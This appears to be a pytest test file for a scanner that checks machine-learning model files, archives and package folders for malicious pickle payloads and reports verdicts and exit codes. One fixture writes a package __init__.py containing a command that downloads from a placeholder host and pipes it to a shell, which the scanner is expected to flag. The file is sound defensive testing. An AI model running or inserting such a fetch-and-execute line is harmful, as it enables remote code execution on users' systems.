"""`mlsupply inspect` of model files: the same verdicts and exit codes as `mlsupply models scan`, in every format."""

from __future__ import annotations

import errno
import gzip
import json
import lzma
import os
import tarfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from mlsupply.cli import main
from mlsupply.evidence.alone import stands_alone
from mlsupply.evidence.models.folder import is_model_name, model_files
from mlsupply.folders import every_file
from tests.models.writing import Zip, array, new, payload, pickled, torch_zip


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """One model of each verdict."""
    (tmp_path / "good.pkl").write_bytes(array())
    (tmp_path / "bad.pt").write_bytes(torch_zip(payload()))
    (tmp_path / "odd.bin").write_bytes(pickled(new("acme.models", "Net")))
    return tmp_path


@pytest.mark.parametrize(
    ("name", "code", "verdict"), [("good.pkl", 0, "clear"), ("bad.pt", 1, "blocked"), ("odd.bin", 3, "not verified")]
)
@pytest.mark.parametrize("verb", [["inspect"], ["models", "scan"]])
def test_verdict_and_exit_code(folder: Path, name: str, code: int, verdict: str, verb: list[str]) -> None:
    done = CliRunner().invoke(main, [*verb, str(folder / name)])
    assert done.exit_code == code
    assert done.output.startswith(verdict)


def test_a_folder_of_models(folder: Path) -> None:
    done = CliRunner().invoke(main, ["inspect", str(folder)])
    assert done.exit_code == 1
    assert done.output.count("\n") > 3


def test_json_is_a_report(folder: Path) -> None:
    done = CliRunner().invoke(main, ["inspect", "-o", "json", str(folder / "bad.pt")])
    report = json.loads(done.output)
    assert (done.exit_code, report["verdict"]["exit_code"]) == (1, 1)
    assert report["findings"][0]["id"] == "MLS-M001"
    assert report["findings"][0]["places"][0]["member"] == "archive/data.pkl"


def test_json_of_what_is_not_verified(folder: Path) -> None:
    done = CliRunner().invoke(main, ["inspect", "-o", "json", str(folder / "odd.bin")])
    report = json.loads(done.output)
    assert done.exit_code == 3
    assert report["gaps"]


def test_json_of_models_scan(folder: Path) -> None:
    rows = json.loads(CliRunner().invoke(main, ["models", "scan", "-o", "json", str(folder)]).output)
    assert [row["verdict"] for row in rows] == ["blocked", "clear", "not verified"]


def test_models_scan_ends_with_its_sum_and_writes_files(folder: Path) -> None:
    done = CliRunner().invoke(main, ["models", "scan", str(folder)])
    assert done.stderr == "3 model files: 1 blocked, 1 clear, 1 not verified\n"
    table, rows = folder / "said.txt", folder / "said.json"
    outputs = ["-o", f"table={table}", "-o", f"json={rows}"]
    again = CliRunner().invoke(main, ["models", "scan", *outputs, str(folder)])
    assert (again.exit_code, again.output) == (1, "")
    assert table.read_text() == done.stdout
    assert len(json.loads(rows.read_bytes())) == 3


def test_a_lock_is_not_written_nor_a_signature_verified_over_a_folder_that_cannot_be_listed(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "closed").mkdir()
    assert [path.name for path in every_file(folder)] == ["bad.pt", "good.pkl", "odd.bin"]
    scandir = os.scandir

    def refusing(path: str) -> object:
        if os.fspath(path).endswith("closed"):
            raise PermissionError(errno.EACCES, "Permission denied", path)
        return scandir(path)

    monkeypatch.setattr(os, "scandir", refusing)
    with pytest.raises(PermissionError):
        every_file(folder)


def test_what_is_not_there(tmp_path: Path) -> None:
    assert CliRunner().invoke(main, ["models", "scan", str(tmp_path / "gone.pkl")]).exit_code == 2
    assert CliRunner().invoke(main, ["models", "scan", str(tmp_path)]).exit_code == 4


@pytest.mark.parametrize(
    ("inside", "model"),
    [
        (["model.pkl", "README.md", "config.json", "LICENSE"], True),
        (["README.md"], False),
        (["model.pkl", "demo/__init__.py"], False),
        (["model.pkl", "demo-1.0.dist-info/METADATA"], False),
        (["model.pkl", "bin/start.sh"], False),
        (["model.pkl", "more/demo.zip"], False),
        (["model.pkl", ".cursor/rules/all.mdc"], False),
        (["model.pkl", "starts.pth"], False),
        (["model.pkl", "run"], False),
        (["model.pkl", "env/pyvenv.cfg"], False),
    ],
)
@pytest.mark.parametrize("form", ["folder", "zip"])
def test_models_beside_code_do_not_stand_alone(tmp_path: Path, form: str, inside: list[str], model: bool) -> None:
    contents = {"starts.pth": b"import os\n", "run": b"#!/usr/bin/env python\n", "model.pkl": payload()}
    if form == "zip":
        made = Zip()
        for name in inside:
            made.add(name, contents.get(name, b"text"))
        (tmp_path / "given.zip").write_bytes(made.end())
        assert stands_alone(tmp_path / "given.zip") is (model or inside == ["README.md"]), "a zip is a format of models too"
        return
    for name in inside:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(contents.get(name, b"text"))
    assert stands_alone(tmp_path) is model


def test_an_unpacked_wheel_with_a_model_in_it_is_looked_into_as_a_package(tmp_path: Path) -> None:
    (tmp_path / "demo").mkdir()
    (tmp_path / "demo" / "model.pkl").write_bytes(payload())
    (tmp_path / "demo" / "__init__.py").write_text("import os\nos.system('curl https://x.invalid | sh')\n")
    done = CliRunner().invoke(main, ["inspect", str(tmp_path)])
    assert done.exit_code == 1
    assert "when it is imported:\n    runs what it downloads (demo/__init__.py:2)" in done.stdout
    assert "demo/model.pkl" in done.stdout


def test_a_model_named_beside_a_package_is_not_lost(tmp_path: Path) -> None:
    (tmp_path / "demo").mkdir()
    (tmp_path / "demo" / "__init__.py").touch()
    (tmp_path / "model.pkl").write_bytes(payload())
    done = CliRunner().invoke(main, ["inspect", str(tmp_path / "model.pkl"), str(tmp_path / "demo")])
    assert done.exit_code == 3
    assert f"mlsupply models scan {tmp_path / 'model.pkl'} reads it" in " ".join(done.stdout.split())


def test_no_folder_is_left_out_in_silence(tmp_path: Path) -> None:
    for name in ("venv/model.pkl", "__pycache__/model.pkl", "env/pyvenv.cfg", "env/model.pkl", "node_modules/a/model.pkl"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(payload())
    done = CliRunner().invoke(main, ["models", "scan", str(tmp_path)])
    said = [line.split(f"{tmp_path}/")[1].split()[0] for line in done.stdout.splitlines() if str(tmp_path) in line]
    assert done.exit_code == 1
    assert sorted(said) == ["__pycache__/model.pkl", "env", "node_modules", "venv/model.pkl"]
    assert f"not verified  {tmp_path}/env  (folder)\n    not verified: virtual environment, left out" in done.stdout
    assert done.stderr == "2 model files: 2 blocked; 2 folders not looked through\n"
    for name in ("venv", "__pycache__"):
        (tmp_path / name / "model.pkl").unlink()
    done = CliRunner().invoke(main, ["models", "scan", str(tmp_path)])
    assert (done.exit_code, done.stderr) == (3, "no model file; 2 folders not looked through\n")


@pytest.mark.parametrize(
    ("name", "content", "model"),
    [
        ("demo-1.0-py3-none-any.whl", Zip().add("a.py", b"").end(), False),
        ("demo-1.0.tar.gz", b"\x1f\x8b", False),
        ("demo-1.0.zip", b"PK", False),
        ("weights.zip", b"PK", True),
        ("path.pth", b"import os\n", False),
        ("model.pth", payload(), True),
        ("noextension", b"\x80\x04N.", True),
        ("app.py", b"", False),
    ],
)
def test_what_is_a_model_and_what_a_package(tmp_path: Path, name: str, content: bytes, model: bool) -> None:
    (tmp_path / name).write_bytes(content)
    assert stands_alone(tmp_path / name) is model


def _hub(folder: Path) -> Path:
    """A model as Hugging Face's cache keeps it: the names are links, and what they lead to has none."""
    snapshot = folder / "hub/models--them--demo/snapshots/1"
    blob = folder / "hub/models--them--demo/blobs" / ("a" * 64)
    for made in (snapshot, blob.parent):
        made.mkdir(parents=True)
    blob.write_bytes(torch_zip(payload()))
    (snapshot / "pytorch_model.bin").symlink_to(f"../../blobs/{blob.name}")
    return snapshot


def test_models_of_a_cache_are_found_by_the_links_that_name_them(tmp_path: Path) -> None:
    """A scan of the cache said that there was no model file in it."""
    snapshot = _hub(tmp_path)
    (snapshot.parent / "2").mkdir()
    (snapshot.parent / "2/pytorch_model.bin").symlink_to(snapshot / "pytorch_model.bin")
    for folder in (tmp_path / "hub", snapshot):
        unread: list[tuple[str, str]] = []
        assert [path.name for path in model_files(folder, unread)] == ["pytorch_model.bin"], "once, whatever leads to it"
        assert unread == []
        done = CliRunner().invoke(main, ["models", "scan", str(folder)])
        assert (done.exit_code, "blocked" in done.output) == (1, True)


def test_a_link_to_a_folder_elsewhere_is_said_and_one_inside_is_met_there(tmp_path: Path) -> None:
    root = tmp_path / "project"
    (root / "models").mkdir(parents=True)
    (root / "again").symlink_to("models")
    (root / "data").symlink_to(tmp_path)
    unread: list[tuple[str, str]] = []
    assert list(model_files(root, unread)) == []
    assert unread == [(str(root / "data"), "a link to a folder elsewhere, left out: name it to look through it")]


@pytest.mark.parametrize(
    ("name", "is_model"),
    [
        ("checkpoint.pth.tar", True),
        ("model.pkl.bak", True),
        ("model.pt.part", True),
        ("weights.ckpt.3", True),
        ("pytorch_model.bin.gz", True),
        ("model.safetensors.index.json", False),
        ("model.bin.sha256", False),
        ("demo-1.0.tar", False),
        ("pt.tar", False),
    ],
)
def test_weights_under_one_more_ending_are_models(name: str, is_model: bool) -> None:
    assert is_model_name(name) is is_model


def test_archives_of_models_in_a_folder_are_judged_and_others_are_not_listed(tmp_path: Path) -> None:
    """A folder with one clear model beside a bad one in a zip file passed."""
    (tmp_path / "good.pkl").write_bytes(array())
    (tmp_path / "weights.zip").write_bytes(Zip().add("net/data.pkl", payload()).end())
    with tarfile.open(tmp_path / "all.tgz", "w:gz") as packed:
        packed.add(tmp_path / "weights.zip", "inner.zip")
    (tmp_path / "table.csv.gz").write_bytes(gzip.compress(b"a,b\n1,2\n" * 20))
    (tmp_path / "noise.xz").write_bytes(lzma.compress(bytes(range(256))))
    (tmp_path / "long.gz").write_bytes(gzip.compress(bytes(range(256)) + bytes(50 << 20), 1))
    (tmp_path / "app.zip").write_bytes(
        Zip().add("app/main.py", b"import os\n").add("app/x.so", b"\x7fELF" + bytes(80)).end()
    )
    done = CliRunner().invoke(main, ["models", "scan", "-o", "json", str(tmp_path)])
    said = {Path(row["path"]).name: row["verdict"] for row in json.loads(done.stdout)}
    assert (done.exit_code, said) == (1, {"all.tgz": "blocked", "good.pkl": "clear", "weights.zip": "blocked"})
    assert {path.name for path in model_files(tmp_path, [])} == {"good.pkl"}
